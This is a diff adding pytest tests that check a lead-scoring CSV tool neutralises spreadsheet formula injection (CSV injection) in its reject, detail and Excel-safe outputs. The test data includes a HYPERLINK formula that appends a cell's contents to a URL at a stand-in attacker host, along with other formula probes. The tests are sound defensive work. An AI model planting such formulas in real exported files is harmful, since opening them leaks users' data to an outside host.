@@ -211,3 +211,80 @@ def test_one_bad_output_stops_the_run_before_any_file_is_written(argv, rejecting
     before = snapshot(rejecting)
     assert main(argv) == 2
     assert snapshot(rejecting) == before, capsys.readouterr()
+
+
+# Cells a spreadsheet would run as formulas (OWASP, CSV injection): each must come out prefixed with '.
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=1+2", "+1+2", "-1+2", "@SUM(A1)", "\t=1", "\r=1"]
+EXCEL_POLICY = """policy "excel" version 1.0.0 {
+  title "Excel"
+  owner marketing "M"
+  owner sales "S"
+  timezone "UTC"
+  lead {
+    email text required
+    note text
+  }
+  score fit {
+    -5 when email ends with "@gmail.com"
+  }
+  stages {
+    sales when fit >= 10 owner sales
+    nurture otherwise owner marketing
+  }
+}
+"""
+
+
+def _read(path) -> list[dict]:
+    with open(path, newline="", encoding="utf-8") as handle:
+        return list(csv.DictReader(handle))
+
+
+def _formula_cells(rows: list[dict]) -> list[str]:
+    return [v for row in rows for v in row.values() if v and v.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+
+@pytest.mark.parametrize("engine", ["python", "duckdb"])
+def test_sla_rejects_and_details_never_hold_a_formula(engine, folder, capsys):
+    rows = [(lead, "became_sql", "2026-11-02T10:00:00-05:00", "") for lead in FORMULAS]
+    rows += [(lead, "no_such_event", "2026-11-02T10:00:00-05:00", reason) for lead, reason in zip(FORMULAS, FORMULAS)]
+    write_csv(folder / "events.csv", ["lead", "event", "at", "reason"], rows)
+    assert main([*SLA, "--engine", engine, "--rejects", "r.csv", "--details", "d.csv"]) == 0, capsys.readouterr()
+    rejects, details = _read(folder / "r.csv"), _read(folder / "d.csv")
+    assert _formula_cells(rejects) == [] and _formula_cells(details) == []
+    unknown = [r for r in rejects if r["field"] == "event"]  # (a lead's blanks are trimmed: "\t=1" is "=1" again)
+    assert sorted(r["lead"] for r in unknown) == sorted("'" + f for f in FORMULAS)
+    assert sorted(r["reason"] for r in unknown) == sorted("'" + f for f in FORMULAS)
+    assert {r["lead"] for r in details} == {"'" + f.strip() for f in FORMULAS}
+    assert all(r["row"].isdigit() for r in rejects)  # computed numbers stay numbers
+    assert all(float(r["used_minutes"]) >= 0 for r in details if r["used_minutes"])
+
+
+@pytest.mark.parametrize("engine", ["python", "duckdb"])
+def test_score_rejects_never_hold_a_formula(engine, folder, capsys):
+    write_csv(folder / "leads.csv", ["id", "email", "employees", "industry", "source"],
+              [(f, f, f, f, f) for f in FORMULAS])
+    write_csv(folder / "events.csv", ["lead", "event", "at"], [(f, f, f) for f in FORMULAS])
+    assert main([*SCORE, "--engine", engine, "-o", "s.csv", "--rejects", "r.csv", "--events-rejects", "e.csv"]) == 0
+    for name in ("r.csv", "e.csv"):
+        rejects = _read(folder / name)
+        assert rejects and _formula_cells(rejects) == [], rejects
+
+
+@pytest.mark.parametrize("engine", ["python", "duckdb"])
+def test_score_excel_safe_neutralises_text_from_the_leads_and_keeps_scores_numbers(engine, tmp_path, monkeypatch,
+                                                                                    capsys):
+    monkeypatch.chdir(tmp_path)
+    (tmp_path / "excel.policy").write_text(EXCEL_POLICY)
+    write_csv(tmp_path / "leads.csv", ["email", "note", "amount"],
+              [("a@gmail.com", f, "-5") for f in FORMULAS] + [("b@x.io", "plain", "7")])
+    base = ["score", "excel.policy", "leads.csv", "--engine", engine, "--now", NOW]
+    assert main([*base, "-o", "as-given.csv"]) == 0
+    assert [r["note"] for r in _read(tmp_path / "as-given.csv")] == [*FORMULAS, "plain"]  # kept as given
+    assert main([*base, "-o", "safe.csv", "--excel-safe"]) == 0
+    rows = _read(tmp_path / "safe.csv")
+    assert [r["note"] for r in rows] == ["'" + f for f in FORMULAS] + ["plain"]
+    assert [r["amount"] for r in rows] == ["'-5"] * len(FORMULAS) + ["7"]  # text from the file, even a number
+    assert [r["fit"] for r in rows] == ["-5"] * len(FORMULAS) + ["0"]  # computed scores stay numbers
+    assert main([*base, "-o", "safe.jsonl", "--excel-safe"]) == 2
+    assert "--excel-safe" in capsys.readouterr().err and not (tmp_path / "safe.jsonl").exists()
